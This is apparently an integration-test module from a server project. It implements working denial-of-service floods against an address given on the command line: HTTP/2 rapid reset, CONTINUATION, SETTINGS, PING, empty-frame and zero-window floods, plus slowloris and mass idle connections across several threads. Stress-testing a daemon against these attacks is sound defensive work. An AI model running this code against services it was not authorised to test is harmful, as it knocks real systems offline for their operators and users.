"""Peers that want to bring a daemon down: `python -m tests.integration.floods KIND ADDRESS SECONDS
[tls]`. HTTP/2's known floods are sent as they would be to a daemon that speaks it."""

import contextlib
import itertools
import struct
import sys
import threading
import time

from . import raw_frames

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
# ":method POST, :scheme http, :path /, :authority x, content-type application/grpc", by HPACK.
REQUEST = b"\x83\x86\x84\x41\x01x\x5f\x10application/grpc" b"\x00\x02te\x08trailers"


def http2(kind, flags, stream, payload):
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream)
        + payload
    )


def requests(*after):
    """HEADERS on ever new streams, each with what follows it."""
    for stream in itertools.count(1, 2):
        yield http2(HEADERS, END_HEADERS, stream, REQUEST) + b"".join(
            http2(kind, flags, stream, payload) for kind, flags, payload in after
        )


def repeated(data, first=b""):
    yield first
    while True:
        yield data


def rapid_reset():
    return requests((RST_STREAM, 0, struct.pack(">I", 8)))


def continuation():
    header = b"\x00\x08x-header" + b"\x7f\x81\x01" + b"a" * 256
    return repeated(http2(CONTINUATION, 0, 1, header * 50), first=http2(HEADERS, 0, 1, REQUEST))


def settings():
    return repeated(http2(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 200)


def ping():
    return repeated(http2(PING, 0, 0, b"12345678") * 200)


def empty_frames():
    return repeated(http2(DATA, 0, 1, b"") * 200, first=http2(HEADERS, END_HEADERS, 1, REQUEST))


def windows():
    """Asks for much and lets nothing be sent, then for a byte at a time."""
    return itertools.chain(
        [http2(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))],
        requests((WINDOW_UPDATE, 0, struct.pack(">I", 1))),
    )


HTTP2 = {
    each.__name__: each
    for each in (rapid_reset, continuation, settings, ping, empty_frames, windows)
}


def flood(source, address, tls, end):
    """Connects, sends until it is cut, and again."""
    count = 0
    while time.monotonic() < end:
        with contextlib.suppress(OSError), raw_frames.connect(address, tls) as connection:
            count += 1
            connection.sendall(PREFACE + http2(SETTINGS, 0, 0, b""))
            for data in source():
                connection.sendall(data)
                if time.monotonic() > end:
                    break
    return count


def slow_loris(address, tls, end, connections=300):
    """A byte a second on many connections: of TLS's first record, of a Hello, of nothing."""
    beginnings = [b"\x16\x03\x01\x02\x00\x01", raw_frames.hello(b"x" * 4000), b""]
    count = 0
    held = []
    while time.monotonic() < end:
        while len(held) < connections and time.monotonic() < end:
            with contextlib.suppress(OSError):
                handshaken = tls and count % 10 == 1
                held.append((raw_frames.connect(address, handshaken), beginnings[count % 3]))
            count += 1
        for i, (connection, data) in enumerate(held):
            try:
                connection.send(data[:1])
                held[i] = (connection, data[1:])
            except OSError:
                connection.close()
                held[i] = None
        held = [each for each in held if each is not None]
        time.sleep(0.2)
    return count


def idle(address, tls, end, connections=2500):
    """Connections that say nothing, as many as it has been told, new ones for those that are cut."""
    held = []
    count = 0
    while time.monotonic() < end:
        try:
            held.append(raw_frames.connect(address))
            count += 1
        except OSError:
            time.sleep(0.01)
        if len(held) >= connections:
            held.pop(0).close()
    return count


def main(kind, address, seconds, tls=""):
    end = time.monotonic() + float(seconds)
    counts = []

    def attack():
        if kind in HTTP2:
            counts.append(flood(HTTP2[kind], address, bool(tls), end))
        else:
            counts.append({"slow_loris": slow_loris, "idle": idle}[kind](address, bool(tls), end))

    threads = [threading.Thread(target=attack) for _ in range(4 if kind in HTTP2 else 1)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(sum(counts))


if __name__ == "__main__":
    main(*sys.argv[1:])
